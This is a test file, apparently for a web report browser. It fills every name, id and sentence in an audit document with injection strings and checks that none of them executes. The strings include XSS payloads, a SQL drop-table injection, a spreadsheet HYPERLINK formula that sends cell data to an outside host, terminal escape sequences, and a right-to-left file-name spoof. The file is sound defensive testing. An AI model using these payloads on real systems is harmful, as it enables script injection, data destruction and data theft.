import type { ResultDocument } from '@jokbo/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { smallZoo } from './kept-zoo.js';
import { showReport, shown, type ReportBrowser } from './report-browser.js';

/** Texts that do something where they are not treated as data. */
const HOSTILE = [
  '<script>document.title = "ran"; alert(1)</script>',
  '<img src=x onerror=alert(2)>',
  '"><svg onload=alert(3)>',
  '</script><script>alert(4)</script><!--',
  'javascript:alert(5)',
  `'); drop table run; --`,
  '=HYPERLINK("http://x.example/?"&A1)',
  '\u001b[31mred\u001b]0;title\u0007',
  'safe\u202egnp.exe\u2066\u200b',
  '{z} ${1} {{constructor}}',
].join(' ');

/** The small audit with every name, id and sentence hostile. */
function hostileZoo(): ResultDocument {
  const zoo = smallZoo();
  const model = (id: string): string => `${HOSTILE}${id}`;
  return {
    ...zoo,
    programme: { ...zoo.programme, name: HOSTILE },
    rules: { ...zoo.rules, id: HOSTILE },
    caveats: [HOSTILE],
    training: (zoo.training ?? []).map((section) => ({ ...section, subject: model(section.subject) })),
    self_tests: (zoo.self_tests ?? []).map((tests) => ({ ...tests, subject: model(tests.subject) })),
    evaluations: [],
    models: zoo.models.map((item) => ({
      ...item,
      id: model(item.id),
      name: HOSTILE,
      team: HOSTILE,
      family: HOSTILE,
      model_type: HOSTILE,
      findings: [HOSTILE],
      files: item.files.map((file) => ({ ...file, path: HOSTILE })),
    })),
    leaderboard: zoo.leaderboard.map((row) => ({
      ...row,
      subject: model(row.subject),
      release: HOSTILE,
      team: HOSTILE,
      nearest: row.nearest === null ? null : model(row.nearest),
    })),
    pairs: zoo.pairs.map((pair) => ({
      ...pair,
      subject: model(pair.subject),
      reference: model(pair.reference),
      reproduce: HOSTILE,
      maps: pair.maps.map((map) => ({ ...map, role: HOSTILE })),
      evidence: pair.evidence.map((record) => ({
        ...record,
        reason: HOSTILE,
        null_hypothesis: HOSTILE,
        details: { [HOSTILE]: HOSTILE },
      })),
      verdict: {
        ...pair.verdict,
        reasons: [{ code: HOSTILE, records: [HOSTILE], text: HOSTILE }],
        controls: pair.verdict.controls.map((control) => ({ ...control, model: HOSTILE, note: HOSTILE })),
      },
    })),
  };
}

let report: ReportBrowser | string;
beforeAll(async () => {
  report = await showReport(hostileZoo());
});
afterAll(async () => {
  if (typeof report !== 'string') await report.close();
});

describe('hostile names, ids, sentences and settings', () => {
  it('run nothing, ask for nothing and turn no text around, in either language', async (context) => {
    const { page, problems } = await shown(report, context).open();
    await page.getByRole('button', { name: 'Open all pairs' }).click();
    await page.locator('#pair-1 table.evidence').waitFor();
    await page.locator('#pair-1 figure.map canvas').first().waitFor();
    await page.getByRole('button', { name: '한국어' }).click();
    for (const search of await page.locator('#inputs input[type="search"]').all()) await search.fill(HOSTILE);
    expect(problems).toEqual([]);
    expect(await page.title()).not.toBe('ran');
    expect(await page.locator('script').count()).toBe(2);
    expect(
      await page.locator('img, iframe, object, embed, [onload], [onerror], a[href^="javascript"]').count(),
    ).toBe(0);
    const text = (await page.locator('body').textContent()) ?? '';
    expect(text).toContain('<script>document.title');
    expect(text).toContain('safe\\u{202e}gnp.exe');
    for (const unseen of ['\u001b', '\u0007', '\u202e', '\u2066', '\u200b'])
      expect(text).not.toContain(unseen);
  });

  it('in a state of the address do nothing', async (context) => {
    const state = new URLSearchParams({ 'pairs.find': HOSTILE, 'leaderboard.sort': HOSTILE, lang: HOSTILE });
    const { page, problems } = await shown(report, context).open({}, `#leaderboard?${state.toString()}`);
    await page.locator('#leaderboard thead button').first().waitFor();
    expect(problems).toEqual([]);
    expect(await page.locator('html').getAttribute('lang')).toBe('en');
  });
});
